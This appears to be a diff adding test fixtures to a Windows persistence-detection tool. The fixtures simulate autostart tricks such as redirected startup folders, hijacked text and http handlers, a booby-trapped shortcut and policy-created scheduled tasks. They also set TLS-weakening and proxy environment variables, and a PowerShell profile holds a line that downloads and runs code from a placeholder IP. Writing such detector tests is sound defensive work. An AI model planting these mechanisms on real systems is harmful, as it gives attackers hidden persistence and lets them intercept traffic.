@@ -222,3 +222,47 @@ def script_of_the_policies_state(d):
 # --- profiles of shells ---
 change.row('profile-of-powershell', 'PowerShell runs profile.ps1 each time it starts.', CHECK, 'profile.ps1',
            lambda d: (d.windows(POWERSHELL), d.put(r'Windows\System32\WindowsPowerShell\v1.0\profile.ps1', 'iex (iwr http://203.0.113.7/a)\r\n')))
+
+
+# --- start-up folders by the folders above them ---
+def moved(name, why, folder, hive, key, entry, text):
+    change.row(name, why, CHECK, 'x.exe', lambda d: (d.foreign(rf'{folder}\x.exe'), d.value(hive, key, entry, EXPAND, text)))
+
+
+SHELL = rf'{CURRENT}\Explorer'
+moved('startup-by-its-description', 'The description of a known folder says where it is.', r'C:\ProgramData\s', 'SOFTWARE',
+      rf'{SHELL}\FolderDescriptions\{{82A5EA35-D9CD-47C5-9629-E15D2F714E6E}}', 'RelativePath', 's')
+change['startup-by-its-description'].make = lambda d: (d.foreign(r'C:\ProgramData\s\x.exe'), [
+    d.software(rf'{SHELL}\FolderDescriptions\{{82A5EA35-D9CD-47C5-9629-E15D2F714E6E}}', entry, SZ, text)
+    for entry, text in (('RelativePath', 's'), ('ParentFolder', '{62AB5D82-FDC1-4DC3-A9DD-070D1D495D97}'))])
+moved('startup-by-the-folder-of-programs', 'Startup is in the folder of programs, wherever that is.', r'C:\ProgramData\p\Startup', 'SOFTWARE',
+      rf'{SHELL}\User Shell Folders', 'Common Programs', r'C:\ProgramData\p')
+moved('startup-by-the-data-of-a-user', 'Startup is below AppData, wherever that is.', r'C:\ProgramData\p\Microsoft\Windows\Start Menu\Programs\Startup', 'ADMINISTRATOR',
+      r'Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders', 'AppData', r'C:\ProgramData\p')
+moved('startup-by-the-data-of-programs', 'ProgramData is where the list of profiles says.', r'C:\x\Microsoft\Windows\Start Menu\Programs\Startup', 'SOFTWARE',
+      rf'{NT}\ProfileList', 'ProgramData', r'C:\x')
+autostart('program-of-text-files', 'Who opens a text starts it.', rf'"{EVIL}" "%1"', place='x.exe', key=r'Classes\txtfile\shell\open\command', entry='', kind=EXPAND)
+autostart('program-of-addresses', 'Who opens an address starts it.', rf'"{EVIL}" "%1"', place='x.exe', key=r'Classes\http\shell\open\command', entry='')
+autostart('processor-of-another-machine', 'Programs of other machines are run by the library that is named here.', LIBRARY, place='x.dll', key=r'Microsoft\Wow64\arm', entry='')
+
+# --- variables that lead programs elsewhere ---
+for entry, why, text in (('HTTPS_PROXY', 'Agents send what they have to say by this host.', 'http://203.0.113.7:3128'),
+                         ('SSLKEYLOGFILE', 'Programs write the keys of their connections there.', r'C:\ProgramData\keys.log'),
+                         ('CURL_CA_BUNDLE', 'Programs trust the authorities of that file.', r'C:\ProgramData\ca.pem'),
+                         ('REQUESTS_CA_BUNDLE', 'Python programs trust the authorities of that file.', r'C:\ProgramData\ca.pem'),
+                         ('NODE_TLS_REJECT_UNAUTHORIZED', 'Node trusts whoever answers.', '0'),
+                         ('BASH_ENV', 'bash runs that file before each script.', r'C:\ProgramData\x.sh')):
+    change.row(f'variable-{entry.lower().replace("_", "-")}', why, CHECK, entry, lambda d, entry=entry, text=text: d.system(rf'{SESSION}\Environment', entry, SZ, text))
+
+
+@change(CHECK, 'x.exe')
+def link_whose_first_program_is_missing(d):
+    """A link has a path with variables, and a list of items that Windows follows where there is no such file."""
+    d.put(rf'{STARTUP}\Update.lnk', link(items=d.foreign(EVIL), variables=r'%SystemRoot%\System32\nothere.exe'))
+
+
+@change(CHECK, 'ScheduledTasks.xml')
+def preferences_of_a_policy(d):
+    """Preferences of group policies make tasks; their files are kept there."""
+    d.put(r'ProgramData\Microsoft\Group Policy\History\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml',
+          r'<ScheduledTasks><TaskV2 name="x"><Properties action="C"><Task><Actions><Exec><Command>C:\x.exe</Command></Exec></Actions></Task></Properties></TaskV2></ScheduledTasks>')
